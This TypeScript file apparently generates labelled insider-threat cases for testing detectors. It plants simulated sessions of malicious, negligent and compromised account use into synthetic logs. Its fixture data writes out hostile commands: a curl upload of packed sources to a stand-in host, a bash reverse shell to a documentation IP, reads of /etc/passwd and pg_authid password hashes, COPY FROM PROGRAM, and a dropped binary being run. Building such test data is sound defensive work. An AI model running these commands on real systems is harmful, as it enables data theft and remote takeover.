/**
 * Cases that are planted into the quarter, of the three kinds that are usually told apart: somebody who means harm, somebody who is
 * careless, and somebody else with stolen credentials. Each is a few sessions of one account.
 */
import { tasksOf } from './office.ts'
import type { Person, Random } from './people.ts'
import { type Line, newSession, type Session } from './session.ts'

export type Case = {
  readonly name: string
  readonly kind: 'malicious' | 'negligent' | 'compromised'
  readonly what: string
  /** Only baselines can see it: no rule of ours is about it. */
  readonly isQuiet?: true
  readonly sessions: (startMs: number, people: readonly Person[], random: Random) => readonly Session[]
}

const dayMs = 86_400_000

type Visit = {
  readonly principal: string
  readonly target: string
  /** Week and day of the week from 0, hour (UTC). */
  readonly at: readonly [number, number, number]
  readonly gapMs?: number
  readonly source?: string
  readonly lines: readonly (string | Partial<Line>)[]
}

function sessionsOf(name: string, visits: readonly Visit[]): Case['sessions'] {
  return (startMs, people) =>
    visits.map(({ principal, target, at: [week, day, hour], gapMs = 12_000, lines, source }) => {
      const openedAtMs = startMs + (week * 7 + day) * dayMs + hour * 3_600_000
      const person = people.find(each => each.name === principal)
      const session = newSession(principal, person?.role ?? 'web', target, openedAtMs)
      const kind = session.protocol === 'ssh' ? 'command' : 'statement'
      return {
        ...session,
        planted: name,
        ...(source === undefined ? {} : { source }),
        lines: lines.map(
          (line, index): Line => ({
            kind,
            atMs: openedAtMs + (index + 1) * gapMs,
            text: '',
            ...(typeof line === 'string' ? { text: line } : line),
          }),
        ),
      }
    })
}

const tables = (count: number): string[] => Array.from({ length: count }, (_, at) => `hr.t${at + 1}`)
const file = (text: string, direction: 'up' | 'down', bytes: number): Partial<Line> => ({
  kind: 'file',
  text,
  file: { operation: direction === 'up' ? 'write' : 'read', direction, bytes },
})

/** In the last weeks; before, there is a history to compare with. */
export function plantedCases(weeks: number): readonly Case[] {
  const week = (before: number): number => weeks - before
  const drip = Array.from({ length: 20 }, (_, day) => [week(5) + Math.floor(day / 5), day % 5, 15.5] as const)
  const cases: readonly (Omit<Case, 'sessions'> & { readonly visits: readonly Visit[] })[] = [
    {
      name: 'sweep',
      kind: 'malicious',
      what: 'a DBA reads 40 tables of a database of personnel in six minutes',
      visits: [
        {
          principal: 'dba2',
          target: 'hr-db',
          at: [week(4), 2, 17.8],
          gapMs: 9000,
          lines: tables(40).map(table => ({ text: `SELECT * FROM ${table}`, rows: 800 })),
        },
      ],
    },
    {
      name: 'drip',
      kind: 'malicious',
      what: 'an analyst takes 4,000 customers a day in four pages, for twenty days',
      visits: drip.map((at, day) => ({
        principal: 'data3',
        target: 'shop-replica',
        at,
        gapMs: 240_000,
        lines: Array.from({ length: 4 }, (_, page) => ({
          text: `SELECT id, name, email, phone FROM customers ORDER BY id LIMIT 1000 OFFSET ${(day * 4 + page) * 1000}`,
          rows: 1000,
        })),
      })),
    },
    {
      name: 'leaver',
      kind: 'malicious',
      what: 'a developer switches the history off, packs the sources and sends them away',
      visits: [
        {
          principal: 'web2',
          target: 'web1',
          at: [week(3), 3, 16.2],
          lines: [
            'unset HISTFILE',
            'cd /srv',
            'tar czf /tmp/b.tgz /srv/shop /srv/billing',
            'curl -T /tmp/b.tgz https://files.example.org/u/x',
            'rm /tmp/b.tgz',
          ],
        },
      ],
    },
    {
      name: 'delete',
      kind: 'negligent',
      what: 'DELETE without WHERE on a table of orders',
      visits: [
        {
          principal: 'web4',
          target: 'shop-db',
          at: [week(6), 1, 10.1],
          lines: [
            "SELECT count(*) FROM orders WHERE state = 'test'",
            { text: 'DELETE FROM orders', rows: 84_000 },
            'SELECT count(*) FROM orders',
          ],
        },
      ],
    },
    {
      name: 'secrets',
      kind: 'negligent',
      what: 'passwords on command lines',
      visits: [
        {
          principal: 'web5',
          target: 'web2',
          at: [week(6), 3, 14],
          lines: [
            'cd /srv/shop',
            'mysql -h legacy -u shop -phunter2secret shop -e "select 1"',
            'curl -u deploy:hunter2secret https://api.example.net/hooks',
            'export DB_PASSWORD=hunter2secret',
          ],
        },
      ],
    },
    {
      name: 'firewall',
      kind: 'negligent',
      what: 'the firewall is switched off for a test and forgotten',
      visits: [
        {
          principal: 'platform3',
          target: 'proxy1',
          at: [week(5), 2, 11.5],
          lines: [
            'systemctl status nginx',
            'sudo ufw disable',
            'curl -sI https://shop.example.net/health',
            'ss -tlnp',
          ],
        },
      ],
    },
    {
      name: 'open folder',
      kind: 'negligent',
      what: 'everything below /srv is made writable for everybody',
      visits: [
        {
          principal: 'web1',
          target: 'web3',
          at: [week(2), 0, 9.6],
          lines: ['cd /srv', 'ls -l', 'sudo chmod -R 777 /srv/shop'],
        },
      ],
    },
    {
      name: 'night shell',
      kind: 'compromised',
      what: 'on a Sunday at three, a look around and a reverse shell',
      visits: [
        {
          principal: 'web4',
          target: 'web1',
          source: '198.51.100.23',
          at: [week(3), 6, 3.2],
          lines: [
            'whoami',
            'id',
            'uname -a',
            'cat /etc/passwd',
            'ss -tlnp',
            'ip addr',
            'sudo -l',
            'ls -la /home',
            'bash -i >& /dev/tcp/203.0.113.9/443 0>&1',
          ],
        },
      ],
    },
    {
      name: 'catalogues',
      kind: 'compromised',
      what: 'at two in the night, an analyst’s account reads verifiers of passwords and tries to run a program',
      visits: [
        {
          principal: 'data1',
          target: 'warehouse',
          source: '198.51.100.23',
          at: [week(2), 2, 2.1],
          lines: [
            'SELECT version()',
            'SELECT rolname, rolsuper FROM pg_roles',
            { text: 'SELECT rolname, rolpassword FROM pg_authid', sqlstate: '42501' },
            { text: "COPY t FROM PROGRAM 'id'", sqlstate: '42501' },
            'SELECT table_schema, table_name FROM information_schema.tables',
          ],
        },
      ],
    },
    {
      name: 'uploaded tool',
      kind: 'compromised',
      what: 'a file is uploaded to a build machine and run',
      visits: [
        {
          principal: 'platform4',
          target: 'build1',
          at: [week(1), 1, 20.4],
          lines: [
            file('/tmp/.x/agent', 'up', 2_400_000),
            'chmod +x /tmp/.x/agent',
            '/tmp/.x/agent -q &',
            'exit',
          ],
        },
      ],
    },
  ]
  return [
    ...cases.map(({ visits, ...each }) => ({ ...each, sessions: sessionsOf(each.name, visits) })),
    otherHands(week(4)),
  ]
}

/** Somebody else works in an account for two days, with nothing that a rule is about. */
function otherHands(week: number): Case {
  return {
    name: 'other hands',
    kind: 'compromised',
    what: 'for two days somebody else works in an administrator’s account, on usual targets and at usual hours',
    isQuiet: true,
    sessions: (startMs, people, random) =>
      [0, 1].flatMap(day =>
        [9, 11, 14, 16].map(hour => {
          const openedAtMs = startMs + (week * 7 + day) * dayMs + hour * 3_600_000
          const person = people.find(({ name }) => name === 'platform5')
          const session = newSession('platform5', person?.role ?? 'platform', 'web2', openedAtMs)
          const lines = Array.from({ length: 8 }, () => foreignTask(random)).flat()
          return {
            ...session,
            planted: 'other hands',
            lines: lines.map((text, at): Line => ({ kind: 'command', text, atMs: openedAtMs + at * 25_000 })),
          }
        }),
      ),
  }
}

/** What web developers do. */
function foreignTask(random: Random): readonly string[] {
  const tasks = tasksOf.web.filter(({ protocol }) => protocol === 'ssh')
  const task = tasks[Math.floor(random() * tasks.length)]
  return (task?.lines ?? []).map(line =>
    line.replaceAll(/\{\w+\}/g, () => String(Math.floor(random() * 100))),
  )
}
